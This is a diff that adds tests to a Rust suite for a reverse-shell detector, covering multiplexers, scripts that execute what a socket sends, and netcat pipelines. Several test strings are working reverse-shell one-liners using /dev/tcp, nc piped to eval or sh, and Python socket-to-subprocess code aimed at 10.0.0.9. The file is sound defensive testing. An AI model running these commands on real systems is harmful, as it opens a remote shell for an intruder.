@@ -1,7 +1,9 @@
 use super::scenario::*;
 use detection::Direction as Way;
 use event::Direction::{Accepted, Connected};
+use event::Origin;
 use programs::executable::{InterpreterFamily, Kind, Multiplexer, ShellFamily, SshServer};
+use programs::script::Verdict;
 
 const MODULE: &str = "REVERSE_SHELL";
 
@@ -19,6 +21,7 @@ fn standard_input_bound_to_a_socket_fires_for_any_program() {
         (bash(), "/bin/bash", &["bash", "-i"][..]),
         (Kind::Unknown, "/bin/echo", &["/bin/echo"]),
         (Kind::Unknown, "/bin/cat", &["cat"]),
+        (python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"]),
     ] {
         let mut world = World::new();
         let found = world
@@ -154,6 +157,19 @@ fn quiet_for_a_multiplexer_that_inherited_a_connection() {
 }
 
 #[test]
+fn a_multiplexer_is_followed_to_a_terminal_only() {
+    for (held, is_found) in [(slave(0, 1), true), (reads_pipe(0, 70), false), (unix(0, 60, 61), false)] {
+        let mut world = World::new();
+        world.exec(INIT, 9, Kind::Unknown, "/srv/relay", &["relay"], &[]);
+        world.opens(9, &[tcp(3, 50, Connected), master(4, 1), writes_pipe(5, 70), unix(6, 61, 60)]);
+        world.exec(INIT, 10, Kind::Multiplexer(Multiplexer::Tmux), "/usr/bin/tmux", &["tmux"], &[held]);
+        world.opens(10, &[master(6, 2)]);
+        let found = world.exec(10, 12, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2)]);
+        assert_eq!(found.is_some(), is_found);
+    }
+}
+
+#[test]
 fn quiet_for_a_supervisor_that_reads_one_child_and_feeds_another() {
     let mut world = World::new();
     world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/s.py"], &[]);
@@ -244,6 +260,16 @@ fn a_program_that_connects_by_itself_and_executes_what_it_reads() {
 }
 
 #[test]
+fn a_connection_of_its_own_counts_whoever_started_the_program() {
+    let mut world = World::new();
+    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", "import os"], &[]);
+    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; while read -r l <&3; do eval \"$l\" >&3; done";
+    world.exec(10, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
+    world.opens(11, &[tcp(3, 50, Connected)]);
+    assert!(world.again(11).is_some());
+}
+
+#[test]
 fn quiet_for_a_program_that_connects_and_reads_only() {
     let mut world = World::new();
     let text = "exec 3<>/dev/tcp/10.0.0.9/9001; head -1 <&3";
@@ -279,4 +305,143 @@ fn a_server_of_logins_is_known_by_more_than_words() {
     world.exec(INIT, 10, Kind::SshServer(SshServer::OpenSsh), "/usr/sbin/sshd", &["sshd: u@pts/0"], &[]);
     world.opens(10, &[tcp(3, 50, Accepted), master(4, 2)]);
     assert!(world.exec(10, 11, bash(), "/bin/bash", &["-bash"], &[slave(0, 2), slave(1, 2)]).is_some());
+}
+
+#[test]
+fn quiet_for_a_program_that_only_reads_from_a_connection() {
+    let mut world = World::new();
+    let input = [tcp(0, 50, Connected), writes_pipe(1, 70)];
+    assert!(world.exec(INIT, 11, Kind::Unknown, "/usr/bin/head", &["head", "-1"], &input).is_none());
+    let found = world.exec(INIT, 12, bash(), "/bin/sh", &["sh"], &input).unwrap();
+    assert_eq!(found.direction, Way::Reverse, "a shell needs nobody who reads its answers");
+}
+
+#[test]
+fn quiet_for_a_script_that_is_met_with_a_connection_as_its_input() {
+    let holds = [tcp(0, 50, Connected), tcp(1, 50, Connected)];
+    for arguments in [&["bash", "-c", "exec 0<>/dev/tcp/h/1 1>&0; read -r x"][..], &["bash", "/srv/check.sh"]]
+    {
+        let mut world = World::new();
+        world.origin = Origin::Snapshot;
+        assert!(world.exec(INIT, 11, bash(), "/bin/bash", arguments, &holds).is_none(), "{arguments:?}");
+        world.origin = Origin::Probe;
+        assert!(world.exec(INIT, 12, bash(), "/bin/bash", arguments, &holds).is_some(), "{arguments:?}");
+    }
+    let mut world = World::new();
+    world.origin = Origin::Snapshot;
+    assert!(world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-i"], &holds).is_some());
+}
+
+#[test]
+fn a_script_that_runs_what_it_receives() {
+    let script = &["python3", "/srv/x.py"];
+    let text =
+        "import socket,subprocess\nwhile True: subprocess.run(s.recv(99), shell=True, capture_output=True)";
+    for direction in [Connected, Accepted] {
+        let mut world = World::new();
+        world.exec(INIT, 10, python(), "/usr/bin/python3.11", script, &[]);
+        world.opens(10, &[tcp(3, 50, direction), reads_pipe(5, 70)]);
+        world.tell_text(10, text);
+        assert!(world.again(10).is_none(), "it may, but has run nothing yet");
+        let run = |command| ["sh", "-c", command];
+        let found = world.exec(10, 11, bash(), "/bin/sh", &run("id"), &[writes_pipe(1, 70)]).unwrap();
+        assert_eq!((found.metadata.module, found.opener.unwrap().process.pid), (MODULE, 10));
+        assert!(world.exec(10, 12, bash(), "/bin/sh", &run("ls"), &[writes_pipe(1, 70)]).is_none());
+    }
+}
+
+#[test]
+fn a_command_that_needs_no_shell() {
+    let start = |script: &[&str], program: &str, network| {
+        let mut world = World::new();
+        world.exec(INIT, 10, python(), "/usr/bin/python3.11", script, &[]);
+        world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
+        if network {
+            world.tell_text(10, "subprocess.run(shlex.split(s.recv(99))); os.system('git pull')");
+        }
+        world.exec(10, 11, Kind::Unknown, program, &["x"], &[writes_pipe(1, 70)]).is_some()
+    };
+    let file = &["python3", "/srv/x.py"];
+    assert!(start(file, "/usr/bin/id", true));
+    assert!(!start(file, "/usr/bin/git", true), "its author named it");
+    assert!(!start(file, "/usr/bin/id", false));
+    let inline = "import socket,os\ns=socket.create_connection(('h',1))\nos.popen(s.recv(99))";
+    assert!(start(&["python3", "-c", inline], "/usr/bin/id", false));
+    assert!(!start(&["python3", "-c", "import pip"], "/usr/bin/id", false));
+}
+
+#[test]
+fn a_copy_of_a_script_serves_the_connection() {
+    let mut world = World::new();
+    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
+    world.tell_text(10, "os.popen(c.recv(99))");
+    world.forks(10, 11, &[tcp(3, 50, Accepted), reads_pipe(5, 70)]);
+    let found = world.exec(11, 12, bash(), "/bin/sh", &["sh", "-c", "id"], &[writes_pipe(1, 70)]);
+    assert_eq!(found.unwrap().direction, Way::Bind);
+}
+
+#[test]
+fn quiet_for_commands_that_a_script_names() {
+    let text = "subprocess.run('date; sleep 1', shell=True); os.popen('convert ' + s.recv(99))";
+    for (arguments, is_found) in [
+        (&["sh", "-c", "date; sleep 1"][..], false),
+        (&["sh", "-c", "convert a.png b.jpg"], false),
+        (&["sh", "/srv/hook.sh"], false),
+        (&["sh", "-c", "id"], true),
+    ] {
+        let mut world = World::new();
+        world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
+        world.opens(10, &[tcp(3, 50, Accepted), reads_pipe(5, 70)]);
+        world.tell_text(10, text);
+        let found = world.exec(10, 11, bash(), "/bin/sh", arguments, &[writes_pipe(1, 70)]);
+        assert_eq!(found.is_some(), is_found, "{arguments:?}");
+    }
+}
+
+#[test]
+fn a_shell_script_that_connects_and_executes_what_it_reads() {
+    let network = Verdict { network: true, ..Verdict::QUIET };
+    for (verdict, is_found) in [(network, true), (Verdict::QUIET, false)] {
+        let mut world = World::new();
+        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "/srv/x.sh"], &[]);
+        world.opens(11, &[tcp(3, 50, Connected)]);
+        world.tell_script(11, verdict);
+        assert_eq!(world.again(11).is_some(), is_found);
+    }
+}
+
+#[test]
+fn quiet_for_what_a_script_of_known_text_writes_into_a_shell() {
+    let mut world = World::new();
+    world.exec(INIT, 9, Kind::Unknown, "/usr/sbin/server", &["server"], &[]);
+    world.opens(9, &[tcp(3, 50, Accepted), unix(4, 60, 61)]);
+    let served = [unix(0, 61, 60), unix(1, 61, 60)];
+    world.exec(9, 10, bash(), "/bin/sh", &["sh", "-c", "(sleep 1; echo date) | sh"], &served);
+    let stage = [unix(0, 61, 60), writes_pipe(1, 70)];
+    world.exec(10, 11, Kind::Unknown, "/usr/bin/sleep", &["sleep", "1"], &stage);
+    let shell = [reads_pipe(0, 70), unix(1, 61, 60)];
+    assert!(world.exec(10, 12, bash(), "/bin/sh", &["sh"], &shell).is_none());
+    // a stage that has opened a connection of its own
+    world.opens(11, &[tcp(5, 51, Connected)]);
+    assert!(world.exec(10, 13, bash(), "/bin/sh", &["sh"], &[reads_pipe(0, 70), unix(1, 61, 60)]).is_some());
+}
+
+#[test]
+fn a_program_that_executes_what_its_client_reads() {
+    for (text, is_found) in [
+        ("nc 10.0.0.9 9001 | while read -r l; do eval \"$l\"; done", true),
+        ("nc 10.0.0.9 9001 | while read -r l; do echo \"$l\"; done", false),
+        // that shell is found
+        ("nc 10.0.0.9 9001 | sh | nc 10.0.0.9 9002", false),
+    ] {
+        let mut world = World::new();
+        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
+        world.exec(11, 12, Kind::Unknown, "/usr/bin/nc", &["nc", "10.0.0.9", "9001"], &[writes_pipe(1, 70)]);
+        world.opens(12, &[tcp(3, 50, Connected)]);
+        assert!(world.again(11).is_none(), "nobody has said whose connection it is");
+        world.connects(12);
+        let found = world.again(11);
+        assert_eq!(found.is_some(), is_found, "{text}");
+        assert!(found.is_none_or(|f| f.opener.is_some_and(|o| o.process.pid == 12)));
+    }
 }
